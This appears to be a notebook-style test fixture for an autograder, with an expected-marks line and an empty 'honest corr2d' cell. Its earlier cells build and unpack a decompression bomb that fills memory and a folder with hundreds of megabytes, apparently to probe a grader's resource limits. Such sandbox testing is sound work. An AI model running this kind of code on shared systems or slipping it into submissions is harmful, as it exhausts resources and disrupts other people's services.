# Unpacks a few kilobytes that become gigabytes, in memory and in its folder.
# marks: corr2d 10
# %% own cell
import bz2, gzip, io, lzma, zipfile, zlib

small = bz2.compress(bz2.compress(bytes(1 << 24)))
for _ in range(2):
    small = bz2.decompress(small)
zlib.decompress(zlib.compress(bytes(1 << 28)))
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
    for number in range(20):
        bomb.writestr(f"{number}", bytes(15 << 20))
# %% own cell
import zipfile

zipfile.ZipFile("bomb.zip").extractall("unpacked")
# %% own cell
import time

time.sleep(0.6)
# %% corr2d
# the honest corr2d
